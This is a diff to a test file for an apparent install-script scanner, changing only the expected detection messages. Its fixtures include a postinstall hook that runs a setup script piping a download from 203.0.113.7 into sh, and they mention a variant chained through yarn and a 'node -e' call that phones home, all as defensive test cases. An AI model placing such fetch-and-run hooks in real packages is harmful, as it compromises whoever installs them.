@@ -35,7 +35,7 @@ testCheck(installScripts, {
       label: 'a hook that only says npm run setup, where setup pipes a download into sh',
       manifest: { scripts: { postinstall: 'npm run setup', setup: 'curl -fsSL http://203.0.113.7/x | sh' } },
       severity: 'critical',
-      message: /through npm run setup/,
+      message: /through the setup script it starts/,
     },
     {
       label: 'the same two scripts away, through yarn',
@@ -47,7 +47,7 @@ testCheck(installScripts, {
         },
       },
       severity: 'critical',
-      message: /through npm run prep, npm run fetch-assets/,
+      message: /through the prep, fetch-assets scripts it starts/,
     },
     {
       label: 'install running node -e that phones home',
